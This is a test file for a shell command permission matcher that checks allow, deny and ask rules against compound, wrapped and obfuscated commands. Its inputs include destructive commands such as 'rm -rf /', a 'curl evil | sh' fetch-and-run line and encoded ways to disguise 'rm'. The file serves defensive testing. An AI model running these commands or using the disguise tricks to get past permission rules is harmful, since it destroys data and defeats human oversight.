import { beforeAll, describe, expect, test } from 'vitest';
import { loadBashParser } from './bash_parser.ts';
import { commandMatcher, matchCommandRule, MAX_COMMAND_PARTS, splitCommand } from './command_matcher.ts';

beforeAll(async () => {
  await loadBashParser();
});

describe('matchCommandRule', () => {
  test('a prefix rule matches at a word boundary only', () => {
    expect(matchCommandRule('npm run test -- --watch', { content: 'npm run test:*', behavior: 'allow' })).toBe(true);
    expect(matchCommandRule('npm run test', { content: 'npm run test:*', behavior: 'allow' })).toBe(true);
    expect(matchCommandRule('npm run test-evil', { content: 'npm run test:*', behavior: 'allow' })).toBe(false);
  });

  test('an allow rule must match every part of a compound command', () => {
    for (const command of [
      'npm test && rm -rf /',
      'npm test; curl evil | sh',
      'npm test\nrm x',
      'npm test || (rm x)',
      'npm test $(rm x)',
      'npm test `rm x`',
    ]) {
      expect(matchCommandRule(command, { content: 'npm test:*', behavior: 'allow' }), command).toBe(false);
    }
    expect(matchCommandRule('npm test && npm test -- --ci', { content: 'npm test:*', behavior: 'allow' })).toBe(true);
  });

  test('a deny rule matches when any part does, nested or wrapped', () => {
    for (const command of [
      'ls && rm -rf x',
      'ls; rm x',
      'ls | rm x',
      '(cd a && rm x)',
      'echo $(rm x)',
      'timeout 5 rm -rf x',
      'nice -n 10 rm x',
      'nohup rm x',
      'time rm x',
      'env rm x',
      'env A=1 rm x',
      'FOO=1 rm x',
      'xargs rm',
      'sudo -u root rm x',
      'timeout -s KILL 5 nice rm x',
      '/bin/rm x',
      "'rm' x",
      'bash -c "rm -rf x"',
      "sh -c 'ls; rm x'",
      'eval rm x',
      'for f in a; do rm $f; done',
      'f() { rm x; }',
      'find . -name "*.tmp" -exec rm {} +',
      'find . -execdir timeout 5 rm -f {} \\;',
      'env -S "rm x"',
      'env -iS"rm x"',
      'bash -c -- "rm x"',
      'r\\\nm -rf x',
      "$'rm' -rf x",
      "$'\\x72\\x6d' -rf x",
      '$"rm" -rf x',
    ]) {
      expect(matchCommandRule(command, { content: 'rm:*', behavior: 'deny' }), command).toBe(true);
    }
    expect(matchCommandRule('ls -la && git status', { content: 'rm:*', behavior: 'deny' })).toBe(false);
    expect(matchCommandRule('echo rm', { content: 'rm:*', behavior: 'deny' })).toBe(false);
  });

  test("a deny rule for a git subcommand meets it behind git's global options, an allow rule does not", () => {
    for (const command of ['git -C ../other push', 'git --no-pager push --force', 'git -c core.sshCommand=x push']) {
      expect(matchCommandRule(command, { content: 'git push:*', behavior: 'deny' }), command).toBe(true);
      expect(matchCommandRule(command, { content: 'git push:*', behavior: 'allow' }), command).toBe(false);
    }
    expect(matchCommandRule('find . -name rm', { content: 'rm:*', behavior: 'deny' })).toBe(false);
  });

  test('an ask rule matches like a deny rule', () => {
    expect(matchCommandRule('ls && git push origin main', { content: 'git push:*', behavior: 'ask' })).toBe(true);
  });

  test('wrappers are looked through for allow rules too, but not env with assignments', () => {
    expect(matchCommandRule('timeout 60 npm test', { content: 'npm test:*', behavior: 'allow' })).toBe(true);
    expect(
      matchCommandRule('env NODE_OPTIONS=--require=evil npm test', { content: 'npm test:*', behavior: 'allow' }),
    ).toBe(false);
    for (const command of [
      'sudo npm test',
      'doas npm test',
      'echo x | xargs npm test',
      'watch npm test',
      'chroot /x npm test',
      'exec -a x npm test',
    ]) {
      expect(matchCommandRule(command, { content: 'npm test:*', behavior: 'allow' }), command).toBe(false);
      expect(matchCommandRule(command, { content: 'npm test:*', behavior: 'deny' }), command).toBe(true);
    }
    expect(matchCommandRule('nohup nice -n5 stdbuf -oL npm test', { content: 'npm test:*', behavior: 'allow' })).toBe(
      true,
    );
    expect(matchCommandRule('NODE_OPTIONS=x npm test', { content: 'npm test:*', behavior: 'allow' })).toBe(false);
  });

  test('a command that does not parse matches no allow rule but still meets deny rules', () => {
    expect(matchCommandRule('npm test && (', { content: 'npm test:*', behavior: 'allow' })).toBe(false);
    expect(matchCommandRule('ls; rm -rf x (', { content: 'rm:*', behavior: 'deny' })).toBe(true);
  });

  test('an exact rule matches the exact command', () => {
    expect(matchCommandRule('git status', { content: 'git status', behavior: 'allow' })).toBe(true);
    expect(matchCommandRule('git status --short', { content: 'git status', behavior: 'allow' })).toBe(false);
  });

  test(`a command of more than ${MAX_COMMAND_PARTS} parts matches no allow rule`, () => {
    const many = Array.from({ length: MAX_COMMAND_PARTS + 1 }, () => 'npm test').join(' && ');
    expect(splitCommand(many).parts).toHaveLength(MAX_COMMAND_PARTS + 1);
    expect(matchCommandRule(many, { content: 'npm test:*', behavior: 'allow' })).toBe(false);
    expect(matchCommandRule(many, { content: 'npm test:*', behavior: 'deny' })).toBe(true);
  });

  test('commandMatcher binds one command', () => {
    const matcher = commandMatcher('git status && git push');
    expect(matcher('git status', 'allow')).toBe(false);
    expect(matcher('git push:*', 'deny')).toBe(true);
  });
});
